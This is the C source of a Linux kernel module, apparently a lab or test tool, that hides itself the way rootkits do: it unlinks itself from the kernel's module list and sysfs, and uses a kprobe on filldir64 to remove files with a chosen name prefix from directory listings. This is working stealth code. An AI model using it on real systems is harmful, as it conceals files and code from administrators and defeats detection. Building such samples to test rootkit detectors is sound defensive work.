// SPDX-License-Identifier: (MIT OR GPL-2.0-only)
// A module that hides as rootkits do, for the lab only: from /proc/modules and /proc/kallsyms with depth=1, from /sys/module
// as well with depth=2; and with prefix=NAME every file whose name begins so from all lists of folders. It does nothing else, and
// stays until the guest ends.
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/string.h>

static int depth = 1;
module_param(depth, int, 0444);

static char *prefix = "";
module_param(prefix, charp, 0444);

// What filldir64 says of an entry that it took: true, go on (bool since Linux 6.1).
static noinline bool taken(void)
{
	return true;
}

// filldir64(context, name, length, ...) puts one entry into what getdents64(2) gives. An entry that is to be hidden goes to a function
// that takes it and puts it nowhere.
static int before_filldir64(struct kprobe *probe, struct pt_regs *regs)
{
	const char *name = (const char *)regs->si;
	int length = (int)regs->dx;

	if (length < strlen(prefix) || memcmp(name, prefix, strlen(prefix)) != 0)
		return 0;
	regs->ip = (unsigned long)taken;
	return 1;
}

static struct kprobe filldir64_probe = {
	.symbol_name = "filldir64",
	.pre_handler = before_filldir64,
};

// The presence of this keeps the kernel from making a jump of the probe, which could go nowhere else.
static void after_filldir64(struct kprobe *probe, struct pt_regs *regs, unsigned long flags)
{
}

static int __init hiding_init(void)
{
	int error;

	if (*prefix) {
		filldir64_probe.post_handler = after_filldir64;
		error = register_kprobe(&filldir64_probe);
		if (error)
			return error;
	}
	// The loader links the module into its list before it calls this, and never looks for it there again.
	list_del_init(&THIS_MODULE->list);
	if (depth > 1)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

module_init(hiding_init);
MODULE_LICENSE("Dual MIT/GPL");
MODULE_DESCRIPTION("hides, for tests");
